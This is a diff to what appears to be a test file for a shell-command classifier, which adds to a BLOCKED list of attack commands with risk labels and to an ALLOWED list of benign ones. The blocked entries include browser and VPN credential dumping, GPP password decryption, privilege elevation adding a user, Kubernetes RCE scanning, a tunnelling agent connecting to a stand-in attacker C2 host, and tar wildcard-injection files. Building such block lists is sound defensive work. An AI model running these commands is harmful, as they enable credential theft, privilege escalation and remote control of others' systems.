@@ -70,6 +70,14 @@ BLOCKED = [
     ("posix", 'find / ! -path "*/proc/*" -iname "*config*" -type f', "env.credential-dump"),
     ("posix", 'ruby dnscat2.rb --dns="domain=example.com"', "network"),
     ("powershell", "Azure-ADConnect -server 127.0.0.1 -db ADSync", "env.credential-dump"),
+    ("posix", "locate *.ovpn", "env.credential-dump"),
+    ("powershell", ".\\SharpChromium.exe logins", "env.credential-dump"),
+    ("posix", "gpp-decrypt edBSHOwhZLTjt", "env.credential-dump"),
+    ("powershell", 'churrasco -d "net user /add x y"', "containment.privilege-elevation"),
+    ("posix", "./SUDO_KILLERv3.sh -c -a -e -r report.txt", "env.machine-discovery"),
+    ("posix", "kubeletctl scan rce --cidr 10.0.0.0/24", "network.remote-service"),
+    ("posix", "./enumerate-iam.py --access-key AKIAX --secret-key x", "network"),
+    ("posix", "./agent -connect attacker_c2_server.com:11601", "network.locator"),  # `_` in a host label
     # files named like options: a later `tar cf a.tar *` reads them as its options (wildcard injection)
     ("posix", 'echo "" >> "--checkpoint=1"', "unverifiable.option-named-file"),
     ("posix", "echo '' >> '--checkpoint-action=exec=sh root.sh'", "unverifiable.option-named-file"),
@@ -101,6 +109,8 @@ ALLOWED = [
     ("posix", "echo x >> a/b-c.txt"),
     ("posix", "touch -c notes.txt"),
     ("posix", "pytest 2>&1 | tee -"),
+    ("posix", "python my_mod.py:12"),
+    ("posix", "pytest tests/test_x.py::test_a"),
 ]
 
 
